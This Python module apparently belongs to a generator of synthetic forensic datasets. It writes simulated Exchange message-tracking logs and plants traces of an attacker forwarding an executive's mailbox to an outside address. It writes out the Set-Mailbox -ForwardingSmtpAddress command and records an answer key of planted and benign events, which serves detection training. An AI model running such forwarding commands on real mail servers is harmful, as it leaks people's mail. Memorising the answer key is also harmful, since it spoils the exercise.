"""Message Tracking logs: the users' daily mail flow and, when planted, external forwarding.

Exchange 2016 writes one tracking log per transport service under
`V15\\TransportRoles\\Logs\\MessageTracking` (facts and sources: docs/research/message-tracking.md):
`MSGTRK` (Transport service: RECEIVE, SEND, REDIRECT), `MSGTRKMS` (Mailbox Transport Submission:
SUBMIT) and `MSGTRKMD` (Mailbox Transport Delivery: DELIVER). `MSGTRKMA` (moderation) only appears
when moderated recipients are used, so this server has none.

Benign traffic: internal mail, mail to and from partner domains (replies included), one user
whose mailbox forwards to a colleague (REDIRECT inside the domain) and one user with an inbox rule
forwarding to a colleague (MAILBOXRULE inside the domain). Planted (family `postexploit`): the
inbox rule that `Attacks._postexploit` creates on the executive's mailbox (`-ForwardTo` an outside
address) produces a MAILBOXRULE copy of every message the executive receives, and a later
`Set-Mailbox -ForwardingSmtpAddress` produces a REDIRECT to the same outside address.
"""

from __future__ import annotations

import random
from dataclasses import dataclass
from datetime import date

from . import winevents as we
from .benign import Population, hour_weight, pool_pid
from .formats import LogFile, Ref, csv_row_from, exchange_header
from .model import DAY_MS, HOUR_MS, INSTALL_REL, SERVER_IP, SMTP_DOMAIN, from_ms, iso
from .planter import Planter
from .world import Schedule, World

# Exchange 2013-2019 field list (Microsoft's "Message tracking" page; the order of public samples)
FIELDS = [
    "date-time",
    "client-ip",
    "client-hostname",
    "server-ip",
    "server-hostname",
    "source-context",
    "connector-id",
    "source",
    "event-id",
    "internal-message-id",
    "message-id",
    "network-message-id",
    "recipient-address",
    "recipient-status",
    "total-bytes",
    "recipient-count",
    "related-recipient-address",
    "reference",
    "message-subject",
    "sender-address",
    "return-path",
    "message-info",
    "directionality",
    "tenant-id",
    "original-client-ip",
    "original-server-ip",
    "custom-data",
    "transport-traffic-type",
    "log-id",
    "schema-version",
]
FORWARD_TARGET = "mailsync-archive@example.net"  # the address of Attacks._postexploit's New-InboxRule
RULE = "mail-forward-external"
FAMILY = "postexploit"
PER_USER_PEAK = 0.7  # messages a user sends in a peak hour
INTRA_CONNECTOR = "Intra-Organization SMTP Send Connector"
PARTNERS = (  # (domain, sending/receiving MTA, its address): documentation names and addresses
    ("northwind.example", "mx1.northwind.example", "198.51.100.25"),
    ("fabrikam.example", "mail.fabrikam.example", "198.51.100.61"),
    ("tailspin.example", "smtp.tailspin.example", "198.51.100.140"),
)
PARTNER_PEOPLE = ("j.doe", "accounts", "m.rossi", "support", "k.tanaka")
SUBJECTS = (
    "Weekly status",
    "Budget review Q1",
    "Invoice 4471",
    "Lunch on Friday?",
    "Project Falcon: next steps",
    "Meeting notes, 3 March",
    "Contract draft v2",
    "Travel request",
    "Quarterly figures",
    "Updated org chart",
)
CLIENTS = ("MOMT", "OWA", "AirSync")


@dataclass
class _Msg:
    """One message as the transport services see it."""

    t: int
    sender: str
    recipients: list[str]
    subject: str
    size: int
    incoming: bool  # from a partner MTA; otherwise submitted from a local mailbox
    mta: tuple[str, str, str] | None = None  # partner (domain, host, ip) for inbound mail
    client_ip: str = ""
    client_type: str = "MOMT"


class MailFlow(Planter):
    """Writes the Message Tracking logs hour by hour and records look-alikes and planted traces."""

    def __init__(
        self, world: World, rng: random.Random, pop: Population, sched: Schedule, families: frozenset[str]
    ) -> None:
        super().__init__(world, rng, pop, sched)
        self.planted = FAMILY in families
        self.next_imid = 73014444033 + rng.randrange(10**6)
        self.event_seq = 63779000 + rng.randrange(10**5)
        self.db_guid = self.ids.guid()
        users = pop.users
        self.by_upn = {u.upn: u for u in users}
        self.exec = pop.exec_user
        others = [u for u in users if u is not self.exec]
        # benign forwarding between colleagues (skipped on tiny populations)
        self.redirect_pair = (others[1], others[2]) if len(others) >= 3 else None
        self.rule_pair = (others[3], others[4]) if len(others) >= 5 else None
        self.rule_from: int | None = None  # planted inbox rule active from
        self.redirect_from: int | None = None  # planted mailbox forwarding active from
        self.counters: dict[str, int] = {}

    # ---- planning ------------------------------------------------------------------------------
    def plan(self) -> None:
        tl = self.tl
        for h in range(tl.t0, tl.t_end, HOUR_MS):
            self.sched.at(h, lambda h=h: self._hour(h))
        if not self.planted:
            return
        # the same moment Attacks._postexploit runs New-InboxRule (its day, 02:06:01.337 + 830 s)
        day = tl.clamp_day(tl.day_of(date(2021, 3, 3), 2) + 2 * DAY_MS)
        self.rule_from = day + 2 * HOUR_MS + 6 * 60_000 + 1_337 + 830_000
        nxt = day + DAY_MS + 9 * HOUR_MS + 14 * 60_000 + 27_512
        self.redirect_from = nxt if nxt < tl.t_end - HOUR_MS else self.rule_from + 3 * HOUR_MS
        self.sched.at(self.redirect_from - 40_000, lambda: self._set_mailbox(self.redirect_from - 40_000))

    def _set_mailbox(self, t: int) -> None:
        """The cmdlet event of the mailbox forwarding (run as SYSTEM from the web shell, as the rule was)."""
        ex = self.exec
        params = (
            f'-Identity "{ex.sam}" -ForwardingSmtpAddress "smtp:{FORWARD_TARGET}" -DeliverToMailboxAndForward "True"'
        )
        ev = self.w.event(
            "msexchange-management",
            t,
            we.cmdlet(t, name="Set-Mailbox", params=params, caller="NT AUTHORITY\\SYSTEM", caller_sid="S-1-5-18",
                      app="EMS", pid=pool_pid("MSExchangeOWAAppPool", self.tl.build_switch is not None
                                              and t >= self.tl.build_switch) + 1240),
            ref=True,
        )  # fmt: skip
        self._trace(ev, "cmdlet-mailbox-access-change", t, "-ForwardingSmtpAddress",
                    "Set-Mailbox forwards the executive's mail to an outside address")  # fmt: skip

    # ---- files ---------------------------------------------------------------------------------
    def _log(self, prefix: str, t: int) -> LogFile:
        d = t - t % DAY_MS
        key = (f"MSGTRK{prefix}", d)
        f = self.w.daily.get(key)
        if f is None:
            stamp = from_ms(t).strftime("%Y%m%d%H")
            rel = f"{self.w.host}/{INSTALL_REL}/TransportRoles/Logs/MessageTracking/MSGTRK{prefix}{stamp}-1.LOG"
            tl = self.tl

            def header(t0: int) -> list[str]:
                return exchange_header("Message Tracking Log", tl.build_at(t0).long, t0, FIELDS, bare=False)

            f = self.w.daily[key] = LogFile(self.w.root, rel, self.w.sink, header)
        return f

    def _row(self, prefix: str, t: int, **v: str) -> Ref:
        v.setdefault("date-time", iso(t))
        v.setdefault("transport-traffic-type", "Email")
        v.setdefault("log-id", self.ids.guid())
        v.setdefault("schema-version", self.tl.build_at(t).long)
        values = {k.replace("_", "-"): x for k, x in v.items()}
        return self._log(prefix, t).insert(t, csv_row_from(FIELDS, values))

    # ---- the hour --------------------------------------------------------------------------------
    def _hour(self, h: int) -> None:
        if self.tl.down(h) and self.tl.down(h + HOUR_MS - 1):
            return
        for m in self._messages(h):
            if not self.tl.down(m.t):
                self._message(m)

    def _messages(self, h: int) -> list[_Msg]:
        rng = self.rng
        users = self.pop.users
        mean = PER_USER_PEAK * len(users) * hour_weight(h)
        n = sum(1 for _ in range(int(mean * 3) + 1) if rng.random() < mean / (int(mean * 3) + 1))
        out = []
        for _ in range(n):
            t = h + rng.randrange(HOUR_MS - 20_000)
            subject = rng.choice(SUBJECTS)
            size = rng.randrange(9_000, 180_000)
            kind = rng.random()
            if kind < 0.25:  # inbound from a partner
                dom = rng.choice(PARTNERS)
                to = [rng.choice(users).upn]
                if rng.random() < 0.35:
                    to = [self.exec.upn]  # the executive gets more than a fair share of outside mail
                sender = f"{rng.choice(PARTNER_PEOPLE)}@{dom[0]}"
                out.append(_Msg(t, sender, to, subject, size, True, mta=dom))
                continue
            a = rng.choice(users)
            if kind < 0.45:  # to a partner, often a reply
                dom = rng.choice(PARTNERS)
                to = [f"{rng.choice(PARTNER_PEOPLE)}@{dom[0]}"]
                subject = ("RE: " if rng.random() < 0.6 else "") + subject
            else:
                k = 1 + (rng.random() < 0.3) + (rng.random() < 0.1)
                to = sorted({u.upn for u in rng.sample(users, min(k, len(users)))} - {a.upn}) or [self.exec.upn]
                if a.upn in to:
                    continue
            out.append(_Msg(t, a.upn, to, subject, size, False, client_ip=a.ip, client_type=rng.choice(CLIENTS)))
        out.sort(key=lambda m: m.t)
        return out

    def _message(self, m: _Msg) -> None:
        """The rows one message leaves: submission or SMTP receive, routing, sends, deliveries."""
        rng = self.rng
        w = self.w
        fqdn_u = w.fqdn.upper()
        imid = str(self._imid())
        netid = self.ids.guid()
        origin = iso(m.t)
        sender_dom = m.sender.rsplit("@", 1)[1]
        msgid = f"<{self.ids.hexstr(32)}@{w.fqdn if not m.incoming else sender_dom}>"
        direction = "Incoming" if m.incoming else "Originating"
        common = {
            "internal_message_id": imid, "message_id": msgid, "network_message_id": netid,
            "message_subject": m.subject, "sender_address": m.sender, "return_path": m.sender,
            "directionality": direction, "total_bytes": str(m.size),
        }  # fmt: skip
        t = m.t
        if m.incoming:
            assert m.mta is not None
            self._row("", t, client_ip=SERVER_IP, client_hostname=fqdn_u, server_ip=SERVER_IP,
                      server_hostname=w.host, source_context="08D8DE33C0A1B2F4;250 2.6.0 queued",
                      connector_id=f"{w.host}\\Default {w.host}", source="SMTP", event_id="RECEIVE",
                      recipient_address=";".join(m.recipients), recipient_status=";".join("To" for _ in m.recipients),
                      recipient_count=str(len(m.recipients)), original_client_ip=m.mta[2],
                      original_server_ip=SERVER_IP, **common)  # fmt: skip
        else:
            u = self.by_upn[m.sender]
            ctx = (f"MDB:{self.db_guid}, Mailbox:{u.mbx}, Event:{self._event()}, MessageClass:IPM.Note, "
                   f"CreationTime:{iso(t - 120)}, ClientType:{m.client_type}")  # fmt: skip
            self._row("MS", t, client_ip=SERVER_IP, client_hostname=fqdn_u, source_context=ctx, source="STOREDRIVER",
                      event_id="SUBMIT", recipient_count=str(len(m.recipients)), original_client_ip=m.client_ip,
                      message_info=origin, **{**common, "internal_message_id": "", "total_bytes": ""})  # fmt: skip
            t += 90 + rng.randrange(300)
            self._row("", t, client_ip=SERVER_IP, client_hostname=fqdn_u, server_hostname=w.host, source_context=ctx,
                      source="STOREDRIVER", event_id="RECEIVE", recipient_address=";".join(m.recipients),
                      recipient_status=";".join("To" for _ in m.recipients), recipient_count=str(len(m.recipients)),
                      original_client_ip=m.client_ip, original_server_ip=SERVER_IP, **common)  # fmt: skip
        local = [r for r in m.recipients if r.endswith("@" + SMTP_DOMAIN)]
        remote = [r for r in m.recipients if r not in local]
        t += 150 + rng.randrange(400)
        forwards: list[tuple[str, str]] = []  # (REDIRECT target, original recipient)
        rule_copies: list[str] = []  # mailboxes whose inbox rule forwards this message
        for r in local:
            if self.redirect_pair and r == self.redirect_pair[0].upn:
                forwards.append((self.redirect_pair[1].upn, r))
            if r == self.exec.upn and self.redirect_from is not None and t >= self.redirect_from:
                forwards.append((FORWARD_TARGET, r))
        for target, orig in forwards:
            ref = self._row("", t, source="ROUTING", event_id="REDIRECT", recipient_address=target,
                            related_recipient_address=orig, recipient_count="1", **common)  # fmt: skip
            if target == FORWARD_TARGET:
                self._trace(ref, RULE, t, "ROUTING,REDIRECT",
                            "Message Tracking: the executive's mail redirected to an outside address")  # fmt: skip
            else:
                self._benign_once(ref, "internal-mailbox-forward", t)
            t += 3
        deliver_to = local + [tgt for tgt, _ in forwards if tgt.endswith("@" + SMTP_DOMAIN) and tgt not in local]
        if local:
            t += 40 + rng.randrange(200)
            self._row("", t, client_ip=SERVER_IP, client_hostname=w.host, server_ip=SERVER_IP, server_hostname=fqdn_u,
                      source_context="08D8DE33C0A1B2F5;250 2.0.0 OK", connector_id=INTRA_CONNECTOR, source="SMTP",
                      event_id="SEND", recipient_address=";".join(deliver_to),
                      recipient_status=";".join("250 2.1.5 Recipient OK" for _ in deliver_to),
                      recipient_count=str(len(deliver_to)), message_info=origin, original_client_ip=m.client_ip,
                      original_server_ip=SERVER_IP, **common)  # fmt: skip
            for r in deliver_to:
                t += 60 + rng.randrange(500)
                u = self.by_upn[r]
                self._row("MD", t, client_ip=SERVER_IP, client_hostname=w.host, server_ip=SERVER_IP,
                          server_hostname=fqdn_u, source_context=f"MDB:{self.db_guid}, Mailbox:{u.mbx}",
                          source="STOREDRIVER", event_id="DELIVER", recipient_address=r, recipient_status="",
                          recipient_count="1", message_info=origin, original_client_ip=m.client_ip,
                          **common)  # fmt: skip
                if self.rule_pair and r == self.rule_pair[0].upn:
                    rule_copies.append(r)
                if r == self.exec.upn and self.rule_from is not None and t >= self.rule_from:
                    rule_copies.append(r)
        out_to = [*remote, *(tgt for tgt, _ in forwards if not tgt.endswith("@" + SMTP_DOMAIN))]
        if out_to:
            self._internet_send(t + 200 + rng.randrange(900), out_to, common, origin, m.client_ip)
        for owner in rule_copies:
            t += 400 + rng.randrange(1500)
            self._rule_copy(t, owner, m, imid)

    def _rule_copy(self, t: int, owner: str, m: _Msg, orig_imid: str) -> None:
        """An inbox rule's forward: a new message from the mailbox owner, `reference` naming the original."""
        w = self.w
        target = FORWARD_TARGET
        if self.rule_pair and owner == self.rule_pair[0].upn:
            target = self.rule_pair[1].upn
        common = {
            "internal_message_id": str(self._imid()), "message_id": f"<{self.ids.hexstr(32)}@{w.fqdn}>",
            "network_message_id": self.ids.guid(), "message_subject": "FW: " + m.subject, "sender_address": owner,
            "return_path": owner, "directionality": "Originating", "total_bytes": str(m.size + 2_400),
        }  # fmt: skip
        ref = self._row("", t, client_ip=SERVER_IP, client_hostname=w.fqdn.upper(), server_hostname=w.host,
                        source="MAILBOXRULE", event_id="RECEIVE", recipient_address=target, recipient_status="To",
                        recipient_count="1", reference=orig_imid, original_server_ip=SERVER_IP, **common)  # fmt: skip
        if target == FORWARD_TARGET:
            self._trace(ref, RULE, t, "MAILBOXRULE,RECEIVE",
                        "Message Tracking: inbox rule copies the executive's mail to an outside address")  # fmt: skip
            self._internet_send(t + 300 + self.rng.randrange(900), [target], common, iso(t), "")
        else:
            self._benign_once(ref, "internal-inbox-rule-forward", t)
            u = self.by_upn[target]
            self._row("MD", t + 700, client_ip=SERVER_IP, client_hostname=w.host, server_ip=SERVER_IP,
                      server_hostname=w.fqdn.upper(), source_context=f"MDB:{self.db_guid}, Mailbox:{u.mbx}",
                      source="STOREDRIVER", event_id="DELIVER", recipient_address=target, recipient_count="1",
                      message_info=iso(t), **common)  # fmt: skip

    def _internet_send(self, t: int, to: list[str], common: dict[str, str], origin: str, client_ip: str) -> None:
        """SMTP out through the Send connector, one row per destination domain."""
        by_dom: dict[str, list[str]] = {}
        for r in to:
            by_dom.setdefault(r.rsplit("@", 1)[1], []).append(r)
        for dom, rcpts in sorted(by_dom.items()):
            host, ip = next(((h, i) for d, h, i in PARTNERS if d == dom), (f"mx.{dom}", "203.0.113.200"))
            ref = self._row("", t, client_ip=SERVER_IP, client_hostname=self.w.host, server_ip=ip, server_hostname=host,
                            source_context=f"08D8DE33C0A1B2F6;250 2.6.0 {common['message_id']} Queued mail for delivery",
                            connector_id="Outbound to Internet", source="SMTP", event_id="SEND",
                            recipient_address=";".join(rcpts), recipient_status=";".join("250 2.6.0 OK" for _ in rcpts),
                            recipient_count=str(len(rcpts)), message_info=origin, original_client_ip=client_ip,
                            original_server_ip=SERVER_IP, **common)  # fmt: skip
            if common["sender_address"].endswith("@" + SMTP_DOMAIN) and common["message_subject"].startswith("RE: "):
                self._benign_once(ref, "external-reply", t)
            t += 20

    # ---- bookkeeping ---------------------------------------------------------------------------
    def _imid(self) -> int:
        self.next_imid += 1 + self.rng.randrange(3)
        return self.next_imid

    def _event(self) -> int:
        self.event_seq += 1 + self.rng.randrange(40)
        return self.event_seq

    def _benign_once(self, ref: Ref, kind: str, t: int) -> None:
        """The first few rows of each benign look-alike kind go into the answer key."""
        n = self.counters.get("benign:" + kind, 0)
        if n < 3:
            self.counters["benign:" + kind] = n + 1
            self.w.key.benign_at(ref, kind, time=iso(t), rule=RULE)

    def _trace(self, ref: Ref | None, rule: str, t: int, marker: str, desc: str) -> None:
        short = rule.split("-", 1)[1] if rule.startswith(FAMILY) else rule
        n = self.counters.get(short, 0) + 1
        self.counters[short] = n
        data = {
            "id": f"px-{short}-{n}" if rule == RULE else f"px-mail-{short}-{n}",
            "family": FAMILY,
            "rule": rule,
            "time": iso(t),
            "marker": marker,
            "description": desc,
            "required": True,
        }
        self.w.key.trace(ref, **data)
